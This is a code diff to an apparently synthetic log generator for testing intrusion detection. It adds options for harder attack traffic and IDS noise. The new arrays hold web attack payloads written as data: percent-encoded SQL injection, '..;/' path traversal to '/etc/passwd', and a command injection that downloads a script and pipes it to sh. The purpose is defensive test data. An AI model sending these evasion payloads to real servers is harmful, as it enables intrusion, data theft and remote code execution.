@@ -24,6 +24,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <unistd.h>
 
 #include "event/time.h"
@@ -210,6 +211,8 @@ enum kind {
     K_NF,
     /* nginx access */
     K_WEB,
+    /* Suricata EVE alert relayed through syslog (--ids-noise) */
+    K_IDS,
 };
 
 /* Flavours of netfilter line (rec.a for K_NF). */
@@ -329,6 +332,12 @@ struct gen {
     int64_t boot_us[H_N]; /* for the kernel's uptime stamp */
     double size_factor;   /* attack sizes scale with --records, 0.1 .. 1 */
     int overflow;
+    /* Harder days (off by default: without them the bytes are those of
+     * earlier versions, draw for draw). */
+    int encoded_web; /* --encoded-web: percent-encoded and servlet payloads */
+    int browser_ua;  /* --browser-ua: web attacks with ordinary browser agents */
+    int sudo_guess;  /* --sudo-guess: sudo abuse as password guessing, no "NOT in sudoers" */
+    double ids_pct;  /* --ids-noise PCT: about PCT % of the lines are IDS policy alerts */
 };
 
 /*
@@ -742,6 +751,44 @@ static const char *const cmdi_paths[] = {
     "/api/v1/export?name=x%0Acat%20/etc/passwd",
 };
 
+/*
+ * --encoded-web: what gets past a rule that only knows the plain forms —
+ * payloads percent-encoded end to end, quotes closed with %22, CASE WHEN
+ * blind injection, servlet path parameters (..;/).  Index WEB_ENC and up.
+ */
+#define WEB_ENC 50
+
+static const char *const sqli_enc_paths[] = {
+    "/products?id=1%27%3B%20DROP%20TABLE%20users--",
+    "/login?user=admin'--&pass=x",
+    "/search?q=1%22%20or%20%22a%22=%22a",
+    "/products?id=1%20AND%20(SELECT%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END)=1",
+    "/products?id=1%20AND%20(SELECT%20CASE%20WHEN%20(ASCII(SUBSTRING(user(),1,1))>64)%20THEN%20SLEEP(3)%20ELSE%200%20END)",
+    "/cart?item=3%27%29%3B%20DELETE%20FROM%20orders%3B--",
+    "/products?id=1%2527%2520OR%25201%253D1--",
+    "/api/v1/items?sort=(CASE%20WHEN%201=1%20THEN%20name%20ELSE%20price%20END)",
+};
+
+static const char *const trav_enc_paths[] = {
+    "/manager/..;/manager/html",
+    "/static/..;/..;/WEB-INF/web.xml",
+    "/app/..;/admin/",
+    "/images/..;/..;/..;/etc/passwd",
+    "/static/%2e%2e;/%2e%2e;/WEB-INF/web.xml",
+    "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "/download?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
+    "/api/v1/..;/actuator/env",
+};
+
+static const char *const cmdi_enc_paths[] = {
+    "/tools/ping?host=127.0.0.1%3Bid",
+    "/tools/ping?host=127.0.0.1%7Cwhoami",
+    "/tools/ping?host=%24%28uname%20-a%29",
+    "/tools/ping?host=127.0.0.1%0Acurl%20http%3A%2F%2F192.0.2.66%2Fx.sh%7Csh",
+    "/cgi-bin/status?ip=10.0.0.1%26%26cat%20%2Fetc%2Fpasswd",
+    "/api/v1/export?name=%60id%60",
+};
+
 static const char *const scan_paths[] = {
     "/.env",           "/.git/config",      "/wp-login.php",        "/phpmyadmin/index.php",
     "/admin/",         "/server-status",    "/cgi-bin/test-cgi",    "/backup.zip",
@@ -761,6 +808,9 @@ static const char *const attack_uas[] = {
     "Wget/1.21.3",
 };
 
+/* browser_uas[] below: the first UA_BOTS_FROM are browsers, then crawlers. */
+#define UA_BOTS_FROM 12
+
 static const char *const scanner_uas[] = {
     "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:",
     "sqlmap/1.7.2#stable (https://sqlmap.org)",
@@ -778,12 +828,18 @@ static void plan_web_attack(struct gen *g, enum atype type)
     switch (type) {
     case AT_SQLI:
         n = scaled(g, 20, 120, 8), base = WEB_SQLI, npaths = NELEM(sqli_paths);
+        if (g->encoded_web)
+            base += WEB_ENC, npaths = NELEM(sqli_enc_paths);
         break;
     case AT_TRAV:
         n = scaled(g, 15, 80, 6), base = WEB_TRAV, npaths = NELEM(trav_paths);
+        if (g->encoded_web)
+            base += WEB_ENC, npaths = NELEM(trav_enc_paths);
         break;
     case AT_CMDI:
         n = scaled(g, 10, 60, 5), base = WEB_CMDI, npaths = NELEM(cmdi_paths);
+        if (g->encoded_web)
+            base += WEB_ENC, npaths = NELEM(cmdi_enc_paths);
         break;
     default:
         n = scaled(g, 200, 1500, 40), base = WEB_SCAN, npaths = NELEM(scan_paths);
@@ -793,8 +849,12 @@ static void plan_web_attack(struct gen *g, enum atype type)
     u->src = take_atk_ip(g);
     u->host = rng_below(&g->rng, 2) ? H_WEB01 : H_WEB02;
     /* Scanners: mostly Nikto; the web attacks use tooling or a faked browser. */
-    u->ua = type == AT_SCANNER ? (uint8_t)(rng_below(&g->rng, 10) < 7 ? 0 : 1 + rng_below(&g->rng, 2))
-                               : (uint8_t)rng_below(&g->rng, NELEM(attack_uas));
+    if (type == AT_SCANNER)
+        u->ua = (uint8_t)(rng_below(&g->rng, 10) < 7 ? 0 : 1 + rng_below(&g->rng, 2));
+    else if (g->browser_ua)
+        u->ua = (uint8_t)rng_below(&g->rng, UA_BOTS_FROM); /* a browser's, not a tool's */
+    else
+        u->ua = (uint8_t)rng_below(&g->rng, NELEM(attack_uas));
     u->aux = (uint32_t)rng_below(&g->rng, 9000) + 1000;
     u->truth = ti;
     g->truth[ti].ip1 = u->src;
@@ -857,7 +917,7 @@ static void plan_sudo_abuse(struct gen *g)
     for (int64_t i = 0; i < n; i++) {
         unsigned cmd = (unsigned)rng_below(&g->rng, NELEM(abuse_cmds));
 
-        if (rng_below(&g->rng, 2)) {
+        if (g->sudo_guess || rng_below(&g->rng, 2)) {
             /* Three wrong passwords: one PAM failure line, then sudo's summary. */
             add(g, t, K_SUDO_PAM_FAIL, uid, 0, 0);
             t += rng_range(&g->rng, 6 * US, 20 * US);
@@ -1175,7 +1235,6 @@ static const char *const browser_uas[] = {
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
 };
-#define UA_BOTS_FROM 12
 
 static void plan_web(struct gen *g)
 {
@@ -1207,6 +1266,45 @@ static void plan_web(struct gen *g)
     }
 }
 
+/*
+ * --ids-noise: what a network IDS reports all day and nobody calls an
+ * incident — policy and informational signatures (package managers, file
+ * sharing, external IP lookups, cleartext logins), from many office
+ * workstations and a few internet hosts, relayed through syslog.  Names of
+ * our own, in the style of a public rule set.
+ */
+struct ids_sig {
+    unsigned sid, severity, port;
+    const char *proto, *name, *category;
+};
+
+static const struct ids_sig ids_sigs[] = {
+    {9100001, 3, 80, "TCP", "POLICY Package manager user agent outbound", "Not Suspicious Traffic"},
+    {9100002, 3, 53, "UDP", "INFO DNS query for a .cloud domain", "Potentially Bad Traffic"},
+    {9100003, 3, 443, "TCP", "POLICY File sharing service in use",
+     "Potential Corporate Privacy Violation"},
+    {9100004, 3, 443, "TCP", "INFO External IP address lookup",
+     "Device Retrieving External IP Address Detected"},
+    {9100005, 2, 8080, "TCP", "POLICY Cleartext HTTP basic authentication",
+     "Potential Corporate Privacy Violation"},
+};
+
+static void plan_ids(struct gen *g)
+{
+    uint32_t uid = new_unit(g);
+    struct unit *u = &g->units[uid];
+    int64_t t = benign_time(g);
+    int inbound = rng_below(&g->rng, 10) < 2;
+
+    u->aux = (uint32_t)rng_below(&g->rng, NELEM(ids_sigs));
+    u->src = inbound ? benign_inet_ip(&g->rng)
+                     : ip4(10, 0, 10, 20 + (unsigned)rng_below(&g->rng, 300));
+    u->dst = inbound ? ip4(10, 0, 1, 10 + (unsigned)rng_below(&g->rng, 20))
+                     : benign_inet_ip(&g->rng);
+    u->port = (uint16_t)(32768 + rng_below(&g->rng, 28000));
+    add(g, t, K_IDS, uid, 0, 0);
+}
+
 static void plan_benign(struct gen *g)
 {
     double p[C_N], sum = 0;
@@ -1236,9 +1334,18 @@ static void plan_benign(struct gen *g)
         }
     }
     while (g->nrecs < g->nrec && !g->overflow) {
-        double x = rng_unit(&g->rng) * sum;
+        double x;
         int c = 0;
 
+        /* An IDS alert is one line, the other units ~2.6 on average (cron
+         * aside, measured): a unit is an alert
+         * with the probability that makes ids_pct % of the lines. */
+        if (g->ids_pct > 0 &&
+            rng_unit(&g->rng) * (g->ids_pct + (100 - g->ids_pct) / 2.6) < g->ids_pct) {
+            plan_ids(g);
+            continue;
+        }
+        x = rng_unit(&g->rng) * sum;
         while (c < C_N - 1 && x >= p[c])
             x -= p[c++];
         switch (c) {
@@ -1877,15 +1984,15 @@ static void render_web(struct out *o, const struct gen *g, const struct tcache *
                 method = "HEAD";
         } else if (what >= WEB_CMDI) {
             i = what - WEB_CMDI;
-            path = cmdi_paths[i];
+            path = i >= WEB_ENC ? cmdi_enc_paths[(i - WEB_ENC) % NELEM(cmdi_enc_paths)] : cmdi_paths[i % NELEM(cmdi_paths)];
             status = (unsigned[]){200, 200, 403, 500, 400}[lr_below(&s, 5)];
         } else if (what >= WEB_TRAV) {
             i = what - WEB_TRAV;
-            path = trav_paths[i];
+            path = i >= WEB_ENC ? trav_enc_paths[(i - WEB_ENC) % NELEM(trav_enc_paths)] : trav_paths[i % NELEM(trav_paths)];
             status = (unsigned[]){404, 400, 403, 200, 404}[lr_below(&s, 5)];
         } else {
             i = what - WEB_SQLI;
-            path = sqli_paths[i];
+            path = i >= WEB_ENC ? sqli_enc_paths[(i - WEB_ENC) % NELEM(sqli_enc_paths)] : sqli_paths[i % NELEM(sqli_paths)];
             status = (unsigned[]){200, 500, 403, 200, 500}[lr_below(&s, 5)];
         }
         if (what < WEB_SCAN)
@@ -1907,7 +2014,7 @@ static void render_web(struct out *o, const struct gen *g, const struct tcache *
                 o_c(o, ')');
             }
         } else {
-            o_s(o, attack_uas[u->ua]);
+            o_s(o, g->browser_ua ? browser_uas[u->ua] : attack_uas[u->ua]);
         }
         o_c(o, '"');
         return;
@@ -1974,6 +2081,48 @@ static void render_web(struct out *o, const struct gen *g, const struct tcache *
     o_s(o, "\" \"");
     o_s(o, ua);
     o_c(o, '"');
+}
+
+/* One EVE alert behind an RFC 3164 header (local5), as rsyslog relays eve.json. */
+static void render_ids(struct out *o, const struct gen *g, const struct tcache *tc,
+                       const struct rec *r, const struct unit *u)
+{
+    const struct ids_sig *sig = &ids_sigs[u->aux % NELEM(ids_sigs)];
+    char iso[TIME_ISO_LEN];
+    uint64_t s = r->rnd;
+
+    if (g->fmt == FMT_SYSLOG) {
+        o_c(o, '<');
+        o_u(o, 21 * 8 + 1 + sig->severity);
+        o_c(o, '>');
+    }
+    o_mem(o, tc->syslog, 15);
+    o_s(o, " ids01 suricata[1877]: {\"timestamp\":\"");
+    time_format_iso(r->t_us - r->t_us % US, iso, sizeof(iso));
+    o_mem(o, iso, 19);
+    o_c(o, '.');
+    o_u0(o, lr_below(&s, 1000000), 6);
+    o_s(o, "+0000\",\"flow_id\":");
+    o_u(o, lr_below(&s, 1ULL << 50));
+    o_s(o, ",\"in_iface\":\"eth1\",\"event_type\":\"alert\",\"src_ip\":\"");
+    o_ip(o, u->src);
+    o_s(o, "\",\"src_port\":");
+    o_u(o, u->port);
+    o_s(o, ",\"dest_ip\":\"");
+    o_ip(o, u->dst);
+    o_s(o, "\",\"dest_port\":");
+    o_u(o, sig->port);
+    o_s(o, ",\"proto\":\"");
+    o_s(o, sig->proto);
+    o_s(o, "\",\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":");
+    o_u(o, sig->sid);
+    o_s(o, ",\"rev\":2,\"signature\":\"");
+    o_s(o, sig->name);
+    o_s(o, "\",\"category\":\"");
+    o_s(o, sig->category);
+    o_s(o, "\",\"severity\":");
+    o_u(o, sig->severity);
+    o_s(o, "}}");
 }
 
 static void render(struct out *o, const struct gen *g, struct tcache *tc, const struct rec *r)
@@ -2079,6 +2228,9 @@ static void render(struct out *o, const struct gen *g, struct tcache *tc, const 
         break;
     case K_WEB:
         render_web(o, g, tc, r, u);
+        break;
+    case K_IDS:
+        render_ids(o, g, tc, r, u);
         break;
     }
     o_c(o, '\n');
@@ -2227,7 +2379,13 @@ static int write_truth(const struct gen *g, const char *path, uint64_t attack_li
     fputs("},\"records_by_type\":{", f);
     for (int i = 0; i < AT_N; i++)
         fprintf(f, "%s\"%s\":%" PRIu64, i ? "," : "", atype_names[i], recs_by_type[i]);
-    fputs("}}\n", f);
+    fputc('}', f);
+    /* Only when asked for, so that the default truth keeps its bytes. */
+    if (g->encoded_web || g->browser_ua || g->sudo_guess || g->ids_pct > 0)
+        fprintf(f, ",\"encoded_web\":%s,\"browser_ua\":%s,\"sudo_guess\":%s,\"ids_noise\":%g",
+                g->encoded_web ? "true" : "false", g->browser_ua ? "true" : "false",
+                g->sudo_guess ? "true" : "false", g->ids_pct);
+    fputs("}\n", f);
     free(order);
     if (fclose(f) != 0) {
         fprintf(stderr, "hikeshi-gen: %s: %s\n", path, strerror(errno));
@@ -2254,6 +2412,14 @@ static const char usage[] =
     "                        (RFC 3164 with <PRI>, as a relay sends them)\n"
     "  -m, --mix LIST        shares of benign lines and attack scale, e.g.\n"
     "                        web=55,ssh=10,cron=3,sudo=3,fw=21,systemd=8,attacks=1\n"
+    "      --year Y          the year of --start becomes Y\n"
+    "      --last-year       --year of last year (the only option that reads the clock)\n"
+    "      --ids-noise PCT   about PCT %% of the lines are IDS policy alerts (EVE\n"
+    "                        relayed through syslog by ids01; 0 .. 50)\n"
+    "      --encoded-web     web attacks percent-encoded, CASE WHEN, ..;/ and friends\n"
+    "      --browser-ua      web attacks with ordinary browser user agents\n"
+    "      --sudo-guess      sudo abuse as password guessing, never 'NOT in sudoers'\n"
+    "      --hard            all four above, with --ids-noise 3\n"
     "  -h, --help            show this help\n";
 
 static int parse_u64(const char *s, uint64_t *ret)
@@ -2310,8 +2476,14 @@ int main(int argc, char **argv)
         {"start", required_argument, NULL, 'S'},  {"span", required_argument, NULL, 'p'},
         {"truth", required_argument, NULL, 't'},  {"format", required_argument, NULL, 'f'},
         {"mix", required_argument, NULL, 'm'},    {"output", required_argument, NULL, 'o'},
-        {"help", no_argument, NULL, 'h'},         {NULL, 0, NULL, 0},
+        {"help", no_argument, NULL, 'h'},         {"year", required_argument, NULL, 'Y'},
+        {"last-year", no_argument, NULL, 'L'},    {"ids-noise", required_argument, NULL, 'I'},
+        {"encoded-web", no_argument, NULL, 'E'},  {"browser-ua", no_argument, NULL, 'B'},
+        {"sudo-guess", no_argument, NULL, 'G'},   {"hard", no_argument, NULL, 'H'},
+        {NULL, 0, NULL, 0},
     };
+    uint64_t year = 0;
+    char start_buf[64];
     static const double default_mix[C_N] = {55, 10, 3, 3, 21, 8};
     struct gen g;
     struct out o = {.fd = STDOUT_FILENO};
@@ -2360,6 +2532,37 @@ int main(int argc, char **argv)
             if (parse_mix(&g, optarg) < 0)
                 goto bad;
             break;
+        case 'Y':
+            if (parse_u64(optarg, &year) < 0 || year < 1971 || year > 9999)
+                goto bad;
+            break;
+        case 'L': {
+            char now[TIME_ISO_LEN];
+            time_format_iso((int64_t)time(NULL) * US, now, sizeof(now));
+            year = (uint64_t)strtoul(now, NULL, 10) - 1;
+            break;
+        }
+        case 'I': {
+            char *end;
+            g.ids_pct = strtod(optarg, &end);
+            if (end == optarg || *end || !(g.ids_pct >= 0 && g.ids_pct <= 50))
+                goto bad;
+            break;
+        }
+        case 'E':
+            g.encoded_web = 1;
+            break;
+        case 'B':
+            g.browser_ua = 1;
+            break;
+        case 'G':
+            g.sudo_guess = 1;
+            break;
+        case 'H':
+            g.encoded_web = g.browser_ua = g.sudo_guess = 1;
+            if (g.ids_pct == 0)
+                g.ids_pct = 3;
+            break;
         case 'h':
             fputs(usage, stdout);
             return 0;
@@ -2369,6 +2572,13 @@ int main(int argc, char **argv)
     }
     if (optind != argc)
         goto bad;
+    if (year) {
+        /* "YYYY-..." keeps its month, day and time; Feb 29 must exist. */
+        if (strlen(start) < 5 || strlen(start) >= sizeof(start_buf) || start[4] != '-')
+            goto bad;
+        snprintf(start_buf, sizeof(start_buf), "%04u%s", (unsigned)year, start + 4);
+        start = start_buf;
+    }
     {
         size_t n = 0;
         int64_t us;
